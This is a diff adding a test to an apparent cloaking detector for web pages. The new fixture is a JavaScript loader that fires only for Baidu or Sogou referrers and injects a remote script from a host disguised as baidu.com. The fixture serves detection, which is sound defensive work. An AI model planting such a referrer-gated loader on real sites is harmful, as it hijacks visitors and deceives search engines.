@@ -141,3 +141,12 @@ def test_a_page_speaking_the_visitors_language_is_no_cloaking():
             "zh?'本页面另有英文版本可供阅读':'This page is also available in <b>English</b>'")
     a = clean_page(page(body=BODY + '<p id="lang"></p>' + f"<script>{code}</script>"), url=URL)
     assert not a.hijacked, a.findings
+
+
+def test_a_search_only_loader_whose_host_names_a_portal_is_still_cloaking():
+    # only the page's own site before the vendor's domain makes an account; a trusted portal's
+    # name there is a disguise
+    code = ("if(/baidu|sogou/.test(document.referrer)){var s=document.createElement('script');"
+            "s.setAttribute('src','https://www.baidu.com.qx7-lucky.top/front.js');document.body.appendChild(s)}")
+    a = cleaned(code)
+    assert a.hijacked and "spam_script" in kinds(a)
